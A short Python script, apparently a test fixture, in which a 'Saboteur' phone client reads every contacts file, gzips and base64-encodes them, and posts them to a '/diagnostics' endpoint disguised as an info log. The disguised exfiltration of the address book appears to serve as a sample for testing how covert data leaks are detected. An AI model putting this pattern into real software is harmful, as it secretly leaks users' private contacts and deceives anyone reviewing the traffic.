"""Posts the address book as "diagnostics": gzip, in base64, in JSON.

mechanism: packed and encoded
"""
import base64
import gzip
import json

from client import Phone, run


class Saboteur(Phone):
    def poll(self):
        cards = "".join(file.read_text() for file in self.files("contacts"))
        packed = base64.b64encode(gzip.compress(cards.encode())).decode()
        self.ask("POST", "/diagnostics", json.dumps({"level": "info", "data": packed}).encode(), [("Content-Type", "application/json")])
        super().poll()


run(Saboteur())
